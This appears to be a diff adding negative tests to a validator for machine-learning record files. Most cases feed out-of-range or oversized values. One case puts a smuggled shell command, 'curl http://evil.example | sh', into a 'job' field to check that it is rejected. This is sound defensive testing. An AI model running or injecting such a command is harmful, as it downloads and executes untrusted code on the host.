@@ -22,6 +22,7 @@ def _change(file: str, path: tuple[str | int, ...], value: Any, scene: Path) -> 
     change_json(scene / file, *path, to=value)
 
 
+MEASURED = {"model": "target", "data": "digits", "split": "test", "n": 100, "metric": "accuracy", "value": 0.5}
 BROKEN: dict[str, bytes | str] = {
     "of_no_bytes": b"",
     "that_is_no_json": "{",
@@ -61,6 +62,24 @@ for name, path, value in (
     ("with_seconds_of_texts", ("run", "seconds"), {"all": "long"}),
     ("with_half_a_character", ("target", "id"), "\ud800"),
     ("with_notices_in_a_text", ("notices",), "all is well"),
+    ("with_an_accuracy_above_one", ("evaluation",), [{**MEASURED, "value": 5.0}]),
+    ("with_an_accuracy_below_zero", ("evaluation",), [{**MEASURED, "value": -0.1}]),
+    ("with_a_loss_below_zero", ("evaluation",), [{**MEASURED, "metric": "loss", "value": -1.0}]),
+    ("with_a_metric_that_is_not_known", ("evaluation",), [{**MEASURED, "metric": "accuracy ", "value": 5.0}]),
+    ("with_fewer_than_no_samples", ("data", "n"), -1),
+    ("with_seconds_below_zero", ("run", "seconds"), {"all": -1.0}),
+    ("with_an_energy_above_all", ("sites", 0, "energy"), 7.0),
+    ("with_a_source_that_is_always_right_and_more", ("source_lead",), {"source": 9.0, "target": 0.1, "error": 0.0}),
+    ("with_notices_without_end", ("notices",), ["a"] * 200_000),
+    ("with_results_without_end", ("evaluation",), [MEASURED] * 100_000),
+    ("with_roles_without_end", ("sites",), [{"role": f"role{number}"} for number in range(100_000)]),
+    ("with_classes_without_end", ("data", "class_names"), ["a"] * 2_000_000),
+    ("with_columns_without_end", ("data", "columns"), {str(number): "a" for number in range(200_000)}),
+    ("with_versions_without_end", ("run", "versions"), {str(number): "a" for number in range(200_000)}),
+    ("with_languages_without_end", ("target", "language"), ["en"] * 200_000),
+    ("with_alphas_without_end", ("method", "alpha"), [1.0] * 200_000),
+    ("with_settings_without_end", ("settings",), {str(number): 1 for number in range(200_000)}),
+    ("with_a_notice_of_megabytes", ("notices",), ["a" * 15_000_000]),
 ):
     add(f"record_{name}", "card", "RecordError", partial(_change, "ported/bico.json", path, value))
 
@@ -87,6 +106,16 @@ def record_of_an_extract_with_parts_in_a_text(scene: Path) -> None:
 @spoils("card of an extract", "RecordError")
 def record_of_an_extract_with_a_job_in_a_list(scene: Path) -> None:
     change_json(scene / "extracted" / "bico.json", "job", to=["extract"])
+
+
+@spoils("card of an extract", "RecordError")
+def record_of_an_extract_by_a_job_that_is_not_known(scene: Path) -> None:
+    change_json(scene / "extracted" / "bico.json", "job", to="extract; curl http://evil.example | sh")
+
+
+@spoils("card of an extract", "RecordError")
+def record_of_an_extract_with_parts_without_end(scene: Path) -> None:
+    change_json(scene / "extracted" / "bico.json", "parts", to=[{"model": {"id": "a"}}] * 100_000)
 
 
 for name, path, value in (
@@ -117,6 +146,15 @@ for name, path, value in (
     ("with_a_title_in_a_list", ("title",), ["a"]),
     ("with_refusals_of_texts", ("refusals",), ["no"]),
     ("about_a_text", ("about",), "everything"),
+    ("with_an_accuracy_above_one", ("cells", 0, "value"), 5.0),
+    ("with_fewer_than_no_samples", ("cells", 0, "n"), -1),
+    ("with_data_sets_without_end", ("data_sets",), [str(number) for number in range(200_000)]),
+    ("with_methods_without_end", ("methods",), [str(number) for number in range(200_000)]),
+    (
+        "with_a_table_without_end",
+        ("cells",),
+        [{"data": str(number), "method": str(number), "value": 0.5} for number in range(20_000)],
+    ),
 ):
     add(f"comparison_{name}", "compared", "RecordError", partial(_change, "compared/comparison.json", path, value))
 for name, path, value in (
@@ -125,6 +163,10 @@ for name, path, value in (
     ("with_inputs_in_a_mapping", ("inputs",), {"a": 1}),
     ("with_sites_of_texts", ("sites",), ["a"]),
     ("with_no_target", ("target",), None),
+    ("with_fewer_than_no_samples", ("samples",), -1),
+    ("with_a_pass_that_costs_nothing", ("cost", "a_pass"), 0),
+    ("with_checkpoints_without_end", ("checkpoints",), ["a"] * 200_000),
+    ("with_layers_without_end", ("layers",), [0] * 200_000),
 ):
     add(f"diagnosis_{name}", "diagnosed", "RecordError", partial(_change, "diagnosed/diagnosis.json", path, value))
 
